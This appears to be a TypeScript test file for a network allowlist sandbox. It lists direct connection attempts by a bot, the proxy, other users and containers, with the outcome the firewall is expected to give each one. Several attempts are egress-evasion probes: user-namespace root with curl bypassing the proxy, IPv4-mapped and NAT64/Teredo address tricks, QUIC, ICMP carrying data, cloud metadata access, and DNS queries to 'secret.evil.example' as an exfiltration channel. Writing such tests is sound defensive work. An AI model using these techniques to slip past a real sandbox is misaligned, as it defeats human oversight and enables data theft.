/** Direct attempts of a bot, the proxy or another user that bypass the proxy, in `proxy-allowlist`. */
import { allowed, get, ping, python, question, refused, run, tcp, udp } from "./_attempts.ts";
import * as world from "./_world.ts";

const { internet, inside, metadata, host } = world;
/** The same address, written for an IPv6 socket. */
const mapped = (v4: string) => `::ffff:${v4}`;
const target = `("${internet.listed}", 443)`;

/** In a user namespace anyone can be root; the host's rules still see the user outside. */
const asRootOfItsOwn = (at: string, port: number) =>
  run(
    "unshare",
    "--user",
    "--map-root-user",
    "curl",
    "--silent",
    "--max-time",
    "2",
    "--noproxy",
    "*",
    `http://${at}:${port}/`,
  );

export const direct = [
  refused("TCP to a listed site's address", "bot", tcp(internet.listed, 443)),
  refused("TCP to a listed site's IPv6 address", "bot", tcp(internet.listed6, 443)),
  refused("TCP to an IPv4 address from an IPv6 socket", "bot", tcp(mapped(internet.listed), 443)),
  refused("TCP to an unlisted site", "bot", tcp(internet.unlisted, 443)),
  refused("TCP to an unlisted site over IPv6", "bot", tcp(internet.unlisted6, 443)),
  refused("TCP to port 80", "bot", tcp(internet.listed, 80)),
  refused("TCP to ssh out there", "bot", tcp(internet.unlisted, 22)),
  refused("TCP to an unusual port", "bot", tcp(internet.unlisted, 8443)),
  refused("SMTP", "bot", tcp(internet.mail, 25)),
  refused("submission", "bot", tcp(internet.mail, 587)),
  refused("submission over IPv6", "bot", tcp(internet.mail6, 465)),
  refused(
    "multipath TCP",
    "bot",
    python(`s = socket(AF_INET, SOCK_STREAM, 262); s.connect(${target}); s.send(b"${"GET / HTTP/1.0\\r\\n\\r\\n"}")`),
  ),
  refused("TCP fast open", "bot", python(`s = socket(); s.sendto(b"x", 0x20000000, ${target})`)),
  refused("UDP-Lite", "bot", python(`s = socket(AF_INET, SOCK_DGRAM, 136); s.sendto(b"x", ${target})`)),
  refused("TCP as root of a user namespace", "bot", asRootOfItsOwn(internet.listed, 443)),
  refused("the metadata service as root of a user namespace", "bot", asRootOfItsOwn(metadata.v4, 80)),
  refused("QUIC", "bot", udp(internet.listed, 443)),
  refused("QUIC over IPv6", "bot", udp(internet.listed6, 443)),
  refused(
    "a DNS question to another resolver",
    "bot",
    udp(internet.otherResolver, 53, question("secret.evil.example")),
  ),
  refused(
    "a DNS question to another resolver over IPv6",
    "bot",
    udp(internet.otherResolver6, 53, question("secret.evil.example")),
  ),
  refused("a DNS question to another resolver over TCP", "bot", tcp(internet.otherResolver, 53)),
  refused("a datagram in fragments", "bot", udp(internet.otherResolver, 53, "x".repeat(4000))),
  refused("a DNS question to the host's resolver", "bot", udp(world.resolver, 53, question("secret.evil.example"))),
  refused("a DNS question to the host's resolver over TCP", "bot", tcp(world.resolver, 53)),
  refused("ICMP", "bot", ping(internet.unlisted)),
  refused("ICMP over IPv6", "bot", ping(internet.unlisted6)),
  refused("ICMP with a payload", "bot", {
    kind: "run",
    command: ["ping", "-c1", "-W", "0.2", "-p", "5ec5e7", internet.otherResolver],
  }),
  refused("multicast", "bot", python(`s = socket(AF_INET, SOCK_DGRAM); s.sendto(b"x", ("224.0.0.251", 5353))`)),
  refused(
    "broadcast",
    "bot",
    python(
      `s = socket(AF_INET, SOCK_DGRAM); s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1); s.sendto(b"x", ("45.67.89.255", 99))`,
    ),
  ),
  refused("a private address", "bot", tcp(inside.ten, 443)),
  refused("the tailnet", "bot", tcp(inside.tailnet, 443)),
  refused("the tailnet over IPv6", "bot", tcp(inside.tailnet6, 443)),
  refused("the metadata service", "bot", tcp(metadata.v4, 80)),
  refused("the metadata service from an IPv6 socket", "bot", tcp(mapped(metadata.v4), 80)),
  refused("an IPv6 metadata service", "bot", tcp(metadata.v6, 80)),
  refused("ICMP to the metadata service", "bot", ping(metadata.v4)),
  refused("sshd over loopback", "bot", tcp("127.0.0.1", 22)),
  refused("sshd over IPv6 loopback", "bot", tcp("::1", 22)),
  refused("sshd at the host's own address", "bot", tcp(host.v4, 22)),
  refused("sshd at 0.0.0.0, which is this host", "bot", tcp("0.0.0.0", 22)),
  refused("another listener on loopback", "bot", tcp("127.0.0.1", 8080)),
  refused("UDP over loopback", "bot", udp("127.0.0.1", 443)),
  refused("the proxy's port at another address of loopback", "bot", tcp("127.0.0.2", world.proxyPort)),
  refused("ICMP over loopback", "bot", ping("127.0.0.1")),
  allowed("its own listener, as named in loopbackPorts", "bot", tcp("127.0.0.1", 18789), "31007 tcp 127.0.0.1 18789"),
  refused("that listener, by another bot", "otherBot", tcp("127.0.0.1", 18789)),
  refused("a site, by another bot", "otherBot", tcp(internet.listed, 443)),

  refused("private IPv4", "proxy", tcp(inside.ten, 443)),
  refused("private IPv4 from an IPv6 socket", "proxy", tcp(mapped(inside.ten), 443)),
  refused("the tailnet", "proxy", tcp(inside.tailnet, 443)),
  refused("a unique local address", "proxy", tcp(inside.ula, 443)),
  refused("NAT64 of a private address", "proxy", tcp(inside.nat64, 443)),
  refused("6to4 of a private address", "proxy", tcp(inside.sixToFour, 443)),
  refused("Teredo of a private address", "proxy", tcp(inside.teredo, 443)),
  refused("the metadata service", "proxy", tcp(metadata.v4, 443)),
  refused("the metadata service's own port", "proxy", tcp(metadata.v4, 80)),
  refused("a TLS port on loopback", "proxy", tcp("127.0.0.1", 443)),
  refused("a TLS port at the host's own address", "proxy", tcp(host.v4, 443)),
  refused("a TLS port at the host's own IPv6 address", "proxy", tcp(host.v6, 443)),
  refused("ssh out there", "proxy", tcp(internet.listed, 22)),
  refused("port 80", "proxy", tcp(internet.listed, 80)),
  refused("SMTP", "proxy", tcp(internet.mail, 25)),
  refused("QUIC", "proxy", udp(internet.listed, 443)),
  refused("another resolver", "proxy", udp(internet.otherResolver, 53)),
  refused("ICMP", "proxy", ping(internet.listed)),
  allowed(
    "443 at a public address: names are the proxy's own matter",
    "proxy",
    tcp(internet.unlisted, 443),
    `tcp ${internet.unlisted} 443`,
  ),

  allowed("443, by a user who is not a bot", "user", tcp(internet.unlisted, 443), `tcp ${internet.unlisted} 443`),
  refused("SMTP, by a user who is not a bot", "user", tcp(internet.mail, 25)),
  refused("the metadata service, by a user who is not a bot", "user", tcp(metadata.v4, 80)),
  allowed("the metadata service, by root", "root", tcp(metadata.v4, 80), `tcp ${metadata.v4} 80`),

  refused("443, out of a container", "container", tcp(internet.unlisted, 443)),
  refused("443 over IPv6, out of a container", "container", tcp(internet.unlisted6, 443)),
  refused("a DNS question, out of a container", "container", udp(internet.otherResolver, 53)),
  refused("ICMP, out of a container", "container", ping(internet.unlisted)),
  refused("SMTP, out of a container", "container", tcp(internet.mail, 25)),
  refused("the metadata service, out of a container", "container", tcp(metadata.v4, 80)),
  refused("a private address, out of a container", "container", tcp(inside.ten, 443, [get])),
];
